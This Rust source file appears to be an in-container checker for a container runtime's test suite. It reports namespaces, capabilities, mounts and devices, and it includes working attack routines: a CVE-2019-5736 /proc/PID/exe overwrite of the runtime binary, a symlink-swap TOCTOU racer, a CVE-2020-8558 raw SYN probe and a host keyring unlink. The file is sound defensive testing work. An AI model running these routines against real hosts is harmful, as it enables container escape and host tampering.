//! The in-container checker: run as a container's process, it reports what it sees as
//! one JSON document on stdout, so tests check the container from inside.
//!
//! `lindocker-checker [--read PATH]... [--write PATH]... [--keyctl DESC] [--exit N]`, the
//! UDP helpers `--udp-recv PORT` and `--udp-send ADDR:PORT TEXT`, the raw SYN prober
//! `--syn VIA ADDR:PORT`, the CVE-2019-5736 watcher `--exe-attack SECONDS PATTERN DIR`, or
//! the TOCTOU racer `--swap-on-open WATCHED DIR TARGET`.
//!
//! Statically linked, no dependencies beyond serde_json, rustix and lindocker-sys (for
//! system calls std lacks, such as keyctl): it runs in any rootfs.

use std::collections::BTreeMap;
use std::fs;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

fn read(path: &str) -> Value {
    match fs::read_to_string(path) {
        Ok(s) => Value::String(s),
        Err(e) => json!({ "error": e.to_string(), "errno": e.raw_os_error() }),
    }
}

/// `Key:\tvalue` lines of /proc/self/status.
fn status() -> BTreeMap<String, String> {
    fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.to_string(), v.trim().to_string()))
        .collect()
}

fn namespaces() -> Value {
    let mut out = serde_json::Map::new();
    for ns in ["cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"] {
        if let Ok(link) = fs::read_link(format!("/proc/self/ns/{ns}")) {
            out.insert(ns.into(), Value::String(link.to_string_lossy().into_owned()));
        }
    }
    Value::Object(out)
}

/// mountinfo as {mountpoint, fstype, options, super}.
fn mounts() -> Value {
    let text = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let list: Vec<Value> = text
        .lines()
        .filter_map(|l| {
            let (left, right) = l.split_once(" - ")?;
            let left: Vec<&str> = left.split(' ').collect();
            let right: Vec<&str> = right.split(' ').collect();
            Some(json!({
                "mountpoint": left.get(4)?,
                "options": left.get(5)?,
                "propagation": left[6..].join(" "),
                "fstype": right.first()?,
                "source": right.get(1)?,
                "super": right.get(2)?,
            }))
        })
        .collect();
    Value::Array(list)
}

fn limits() -> Value {
    let text = fs::read_to_string("/proc/self/limits").unwrap_or_default();
    let mut out = serde_json::Map::new();
    for line in text.lines().skip(1) {
        // "Max open files            1024                 1024                 files"
        let cols: Vec<&str> = line.split("  ").map(str::trim).filter(|c| !c.is_empty()).collect();
        if cols.len() >= 3 {
            out.insert(cols[0].to_string(), json!({ "soft": cols[1], "hard": cols[2] }));
        }
    }
    Value::Object(out)
}

fn devices() -> Value {
    use std::os::unix::fs::{FileTypeExt, MetadataExt};
    let mut out = serde_json::Map::new();
    let Ok(entries) = fs::read_dir("/dev") else { return Value::Null };
    for e in entries.flatten() {
        let path = e.path();
        let Ok(m) = fs::symlink_metadata(&path) else { continue };
        let ft = m.file_type();
        let kind = if ft.is_char_device() {
            "c"
        } else if ft.is_block_device() {
            "b"
        } else if ft.is_symlink() {
            "l"
        } else if ft.is_dir() {
            "d"
        } else if ft.is_fifo() {
            "p"
        } else {
            "f"
        };
        let rdev = m.rdev();
        let (major, minor) = (((rdev >> 8) & 0xfff) as u32, ((rdev & 0xff) | ((rdev >> 12) & 0xfff00)) as u32);
        let target = fs::read_link(&path).ok().map(|t| t.to_string_lossy().into_owned());
        out.insert(
            e.file_name().to_string_lossy().into_owned(),
            json!({ "type": kind, "major": major, "minor": minor, "mode": m.mode() & 0o7777,
                    "uid": m.uid(), "gid": m.gid(), "target": target }),
        );
    }
    Value::Object(out)
}

fn fds() -> Value {
    let mut out = serde_json::Map::new();
    if let Ok(entries) = fs::read_dir("/proc/self/fd") {
        for e in entries.flatten() {
            let target = fs::read_link(e.path()).map(|t| t.to_string_lossy().into_owned()).unwrap_or_default();
            out.insert(e.file_name().to_string_lossy().into_owned(), Value::String(target));
        }
    }
    Value::Object(out)
}

/// UDP helpers for network tests (busybox's nc has no UDP): `--udp-recv PORT` prints the
/// first datagram to arrive on PORT; `--udp-send ADDR:PORT TEXT` sends one.
fn udp(args: &[String]) -> Option<i32> {
    match args {
        [mode, port] if mode == "--udp-recv" => {
            let socket = std::net::UdpSocket::bind(("0.0.0.0", port.parse::<u16>().ok()?)).ok()?;
            let mut buf = [0u8; 2048];
            let (n, _) = socket.recv_from(&mut buf).ok()?;
            println!("{}", String::from_utf8_lossy(&buf[..n]));
            Some(0)
        }
        [mode, addr, text] if mode == "--udp-send" => {
            let socket = std::net::UdpSocket::bind(if addr.starts_with('[') { "[::]:0" } else { "0.0.0.0:0" }).ok()?;
            socket.send_to(text.as_bytes(), addr.as_str()).ok()?;
            Some(0)
        }
        _ => None,
    }
}

/// A hostile container's race for TOCTOU tests: `--swap-on-open WATCHED DIR TARGET`
/// waits until something opens WATCHED, then moves DIR away (to DIR.old) and puts a
/// symlink to TARGET in its place, as fast as it can.
fn swap_on_open(args: &[String]) -> Option<i32> {
    let [mode, watched, dir, target] = args else { return None };
    if mode != "--swap-on-open" {
        return None;
    }
    use rustix::fs::inotify;
    let fd = inotify::init(inotify::CreateFlags::CLOEXEC).ok()?;
    inotify::add_watch(&fd, watched.as_str(), inotify::WatchFlags::OPEN).ok()?;
    println!("watching");
    let mut buf = [0u8; 4096];
    rustix::io::read(&fd, &mut buf).ok()?;
    fs::rename(dir, format!("{dir}.old")).ok()?;
    std::os::unix::fs::symlink(target, dir).ok()?;
    Some(0)
}

/// The Internet checksum (RFC 1071) of `data`.
fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = data.chunks(2).map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]))).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An IPv4 packet holding a TCP SYN from `src:sport` to `dst:dport`.
fn syn_packet(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16) -> Vec<u8> {
    let mut tcp = Vec::with_capacity(20);
    tcp.extend_from_slice(&sport.to_be_bytes());
    tcp.extend_from_slice(&dport.to_be_bytes());
    tcp.extend_from_slice(&0x1234_5678u32.to_be_bytes()); // sequence number
    tcp.extend_from_slice(&[0, 0, 0, 0]); // acknowledgment number
    tcp.extend_from_slice(&[5 << 4, 0x02]); // 20-byte header; SYN
    tcp.extend_from_slice(&64240u16.to_be_bytes()); // window
    tcp.extend_from_slice(&[0, 0, 0, 0]); // checksum (below), urgent pointer
    let mut pseudo = Vec::with_capacity(32);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, 6, 0, tcp.len() as u8]);
    pseudo.extend_from_slice(&tcp);
    let sum = checksum(&pseudo);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    let mut ip = vec![0x45, 0, 0, 40, 0x42, 0x42, 0x40, 0, 64, 6, 0, 0];
    ip.extend_from_slice(&src.octets());
    ip.extend_from_slice(&dst.octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    ip.extend_from_slice(&tcp);
    ip
}

/// `--syn VIA ADDR:PORT`: the CVE-2020-8558 probe. A raw IP packet (IP_HDRINCL, which
/// CAP_NET_RAW allows) whose destination is ADDR (e.g. 127.0.0.1) is routed as if it
/// went to VIA, an address beyond the default gateway: it leaves in a frame for the
/// gateway's MAC with ADDR inside. The answer is watched on an AF_PACKET socket, which
/// sees frames before this kernel drops a source of 127.0.0.1 as a martian. Prints
/// `{"answer": "synack" | "rst" | "none"}`.
fn syn_probe(args: &[String]) -> Option<i32> {
    use rustix::net::{AddressFamily, RecvFlags, SendFlags, SocketType, eth, ipproto, recv, sendto, socket, sockopt};
    let [mode, via, target] = args else { return None };
    if mode != "--syn" {
        return None;
    }
    let via: Ipv4Addr = via.parse().expect("--syn VIA: an IPv4 address");
    let target: std::net::SocketAddrV4 = target.parse().expect("--syn ADDR:PORT");
    // Our own address: the one the kernel picks for VIA (a UDP connect sends nothing).
    let probe = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp socket");
    probe.connect((via, 9)).expect("a route towards VIA");
    let std::net::SocketAddr::V4(own) = probe.local_addr().expect("local address") else { return Some(2) };
    let own = *own.ip();
    let sport = 40000 + (std::process::id() % 20000) as u16;
    let rx = socket(AddressFamily::PACKET, SocketType::DGRAM, Some(eth::IP)).expect("AF_PACKET socket");
    sockopt::set_socket_timeout(&rx, sockopt::Timeout::Recv, Some(Duration::from_millis(100))).expect("timeout");
    let tx = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW)).expect("raw socket");
    let packet = syn_packet(own, *target.ip(), sport, target.port());
    let mut answer = "none";
    let mut buf = [0u8; 2048];
    'tries: for _ in 0..6 {
        sendto(&tx, &packet, SendFlags::empty(), &std::net::SocketAddrV4::new(via, 0)).expect("send the SYN");
        let until = Instant::now() + Duration::from_millis(500);
        while Instant::now() < until {
            let Ok((n, _)) = recv(&rx, &mut buf, RecvFlags::empty()) else { continue };
            let p = &buf[..n.min(buf.len())];
            if p.len() < 40 || p[0] >> 4 != 4 || p[9] != 6 || p[16..20] != own.octets() {
                continue;
            }
            let tcp = &p[usize::from(p[0] & 0x0f) * 4..];
            if tcp.len() < 14
                || u16::from_be_bytes([tcp[0], tcp[1]]) != target.port()
                || u16::from_be_bytes([tcp[2], tcp[3]]) != sport
            {
                continue;
            }
            answer = match tcp[13] {
                f if f & 0x12 == 0x12 => "synack",
                f if f & 0x04 != 0 => "rst",
                _ => continue,
            };
            break 'tries;
        }
    }
    println!("{}", json!({ "answer": answer }));
    Some(0)
}

/// `--keyctl DESC`: the user keyring's id, then search, read and unlink of the `user`
/// key DESC in it; each step's result (`ok` or the errno) under `keyctl-STEP`.
fn keyctl(desc: &str, out: &mut serde_json::Map<String, Value>) {
    use lindocker_sys::keys;
    let res = |r: std::io::Result<Value>| match r {
        Ok(v) => v,
        Err(e) => json!({ "error": e.to_string(), "errno": e.raw_os_error() }),
    };
    let name = std::ffi::CString::new(desc).expect("no NUL");
    out.insert("keyctl-id".into(), res(keys::keyring_id(keys::USER_KEYRING).map(|k| json!(k))));
    let found = keys::search_user_key(keys::USER_KEYRING, &name);
    let key = found.as_ref().ok().copied();
    out.insert("keyctl-search".into(), res(found.map(|k| json!(k))));
    if let Some(key) = key {
        out.insert(
            "keyctl-read".into(),
            res(keys::read_key(key).map(|p| json!(String::from_utf8_lossy(&p).into_owned()))),
        );
        out.insert("keyctl-unlink".into(), res(keys::unlink_key(key, keys::USER_KEYRING).map(|()| json!("ok"))));
    }
}

/// `--exe-attack SECONDS PATTERN DIR`: CVE-2019-5736 as a container process tries it.
/// Touches DIR/ready, then waits for a process whose command line contains PATTERN (the
/// runtime's process for `exec PATTERN`, or the runtime's binary that a `#!/proc/self/exe`
/// script at PATTERN made it load), opens its /proc/PID/exe (O_PATH: granted as soon as
/// the process is dumpable), touches DIR/found, and then keeps reopening that file for
/// writing while it is busy (ETXTBSY: the process still runs it); if an open succeeds, it
/// writes over the start of the file. Prints what each step got, as JSON.
fn exe_attack(args: &[String]) -> Option<i32> {
    use std::os::fd::AsRawFd;
    use std::os::unix::fs::{FileExt, OpenOptionsExt};
    use std::time::{Duration, Instant};
    let [mode, secs, pattern, dir] = args else { return None };
    if mode != "--exe-attack" {
        return None;
    }
    let deadline = Instant::now() + Duration::from_secs(secs.parse().ok()?);
    let me = std::process::id().to_string();
    let err = |e: std::io::Error| json!({ "error": e.to_string(), "errno": e.raw_os_error() });
    let mut report = serde_json::Map::new();
    fs::write(format!("{dir}/ready"), b"").ok()?;
    let mut exe: Option<fs::File> = None;
    'search: while Instant::now() < deadline {
        for entry in fs::read_dir("/proc").ok()?.flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if pid == me || !pid.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            if !cmdline.split(|&b| b == 0).any(|a| a == pattern.as_bytes()) {
                continue;
            }
            // Found: spin until its exe opens (it is non-dumpable until it execs) or
            // it is gone.
            let path = format!("/proc/{pid}/exe");
            loop {
                match fs::OpenOptions::new().read(true).custom_flags(libc_o_path()).open(&path) {
                    Ok(f) => {
                        report.insert("pid".into(), json!(pid));
                        report.insert("exe".into(), json!(fs::read_link(&path).ok()));
                        report.insert("cmdline".into(), json!(String::from_utf8_lossy(&cmdline)));
                        exe = Some(f);
                        break 'search;
                    }
                    Err(_) if Instant::now() > deadline => break 'search,
                    Err(_) if !std::path::Path::new(&format!("/proc/{pid}")).exists() => break,
                    Err(_) => {}
                }
            }
        }
    }
    let Some(exe) = exe else {
        report.insert("open-path".into(), json!("nothing found"));
        println!("{}", Value::Object(report));
        return Some(1);
    };
    report.insert("open-path".into(), json!("ok"));
    let _ = fs::write(format!("{dir}/found"), b"");
    let reopen = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let mut busy = 0u64;
    let opened = loop {
        match fs::OpenOptions::new().write(true).open(&reopen) {
            Err(e) if e.raw_os_error() == Some(26) && Instant::now() < deadline => {
                busy += 1;
                std::thread::sleep(Duration::from_millis(1));
            }
            other => break other,
        }
    };
    report.insert("busy".into(), json!(busy));
    match opened {
        Ok(f) => {
            report.insert("open-write".into(), json!("ok"));
            let wrote = f.write_at(b"#!/bin/sh\necho pwned\n", 0);
            report.insert("write".into(), wrote.map(|_| json!("ok")).unwrap_or_else(err));
        }
        Err(e) => {
            report.insert("open-write".into(), err(e));
        }
    }
    println!("{}", Value::Object(report));
    Some(0)
}

/// `O_PATH`: the checker has no libc crate.
fn libc_o_path() -> i32 {
    0o10000000
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if let Some(code) = udp(&args).or_else(|| syn_probe(&args)) {
        std::process::exit(code);
    }
    if let Some(code) = swap_on_open(&args) {
        std::process::exit(code);
    }
    if let Some(code) = exe_attack(&args) {
        std::process::exit(code);
    }
    let mut reads = serde_json::Map::new();
    let mut writes = serde_json::Map::new();
    let mut exit = 0;
    let mut it = args.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--read" => {
                let p = it.next().expect("--read PATH");
                reads.insert(p.clone(), read(p));
            }
            "--write" => {
                let p = it.next().expect("--write PATH");
                let r = fs::write(p, b"checker");
                writes.insert(
                    p.clone(),
                    match r {
                        Ok(()) => json!("ok"),
                        Err(e) => json!({ "error": e.to_string(), "errno": e.raw_os_error() }),
                    },
                );
            }
            "--open" => {
                // Open for writing, the way CVE-2019-5736 overwrote runc through
                // /proc/PID/exe; and an O_PATH open, the first step of that attack.
                let p = it.next().expect("--open PATH");
                let w = fs::OpenOptions::new().write(true).open(p);
                let path_only =
                    std::os::unix::fs::OpenOptionsExt::custom_flags(fs::OpenOptions::new().read(true), 0o10000000)
                        .open(p);
                let result = |r: std::io::Result<fs::File>| match r {
                    Ok(_) => json!("ok"),
                    Err(e) => json!({ "error": e.to_string(), "errno": e.raw_os_error() }),
                };
                writes.insert(format!("open-write:{p}"), result(w));
                writes.insert(format!("open-path:{p}"), result(path_only));
            }
            "--mkdir" => {
                let p = it.next().expect("--mkdir PATH");
                writes.insert(
                    format!("mkdir:{p}"),
                    match fs::create_dir(p) {
                        Ok(()) => json!("ok"),
                        Err(e) => json!({ "error": e.to_string(), "errno": e.raw_os_error() }),
                    },
                );
            }
            "--keyctl" => {
                // Reach for the user keyring and a key named DESC in it, the way a
                // container found and unlinked a key of the host's root.
                let desc = it.next().expect("--keyctl DESC");
                keyctl(desc, &mut writes);
            }
            "--syscall" => {
                // What the seccomp filter answers for a number (zero arguments).
                let nr = it.next().expect("--syscall NR");
                let result = match lindocker_sys::probe_syscall(nr.parse().expect("a number")) {
                    Ok(v) => json!(v),
                    Err(e) => json!({ "error": e.to_string(), "errno": e.raw_os_error() }),
                };
                writes.insert(format!("syscall:{nr}"), result);
            }
            "--exit" => exit = it.next().and_then(|n| n.parse().ok()).unwrap_or(0),
            other => panic!("unknown argument {other}"),
        }
    }
    let st = status();
    let env: BTreeMap<String, String> = std::env::vars().collect();
    let report = json!({
        "pid": std::process::id(),
        "hostname": read("/proc/sys/kernel/hostname").as_str().map(|s| s.trim().to_string()),
        "domainname": read("/proc/sys/kernel/domainname").as_str().map(|s| s.trim().to_string()),
        "uid": st.get("Uid"), "gid": st.get("Gid"), "groups": st.get("Groups"),
        "umask": st.get("Umask"),
        "caps": { "inheritable": st.get("CapInh"), "permitted": st.get("CapPrm"), "effective": st.get("CapEff"),
                  "bounding": st.get("CapBnd"), "ambient": st.get("CapAmb") },
        "no_new_privs": st.get("NoNewPrivs"),
        "seccomp": st.get("Seccomp"),
        "cwd": std::env::current_dir().map(|p| p.to_string_lossy().into_owned()).unwrap_or_default(),
        "env": env,
        "namespaces": namespaces(),
        "mounts": mounts(),
        "limits": limits(),
        "devices": devices(),
        "fds": fds(),
        "oom_score_adj": read("/proc/self/oom_score_adj").as_str().map(|s| s.trim().to_string()),
        "cgroup": read("/proc/self/cgroup"),
        "uid_map": read("/proc/self/uid_map"),
        "gid_map": read("/proc/self/gid_map"),
        "uptime": read("/proc/uptime"),
        "reads": reads,
        "writes": writes,
    });
    println!("{report}");
    std::process::exit(exit);
}
